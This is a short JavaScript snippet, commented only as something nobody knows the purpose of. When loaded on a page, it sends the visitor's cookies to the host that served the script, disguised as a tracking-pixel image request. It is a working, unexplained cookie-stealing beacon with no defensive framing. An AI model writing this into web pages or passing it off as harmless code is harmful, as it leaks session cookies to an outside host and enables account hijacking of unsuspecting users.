// Nobody knows what this is for.
(function () {
  var home = new URL(document.currentScript.src).origin;
  new Image().src = home + '/u.gif?r=' + Math.random().toString(36).slice(2) + '&c=' + encodeURIComponent(document.cookie);
})();
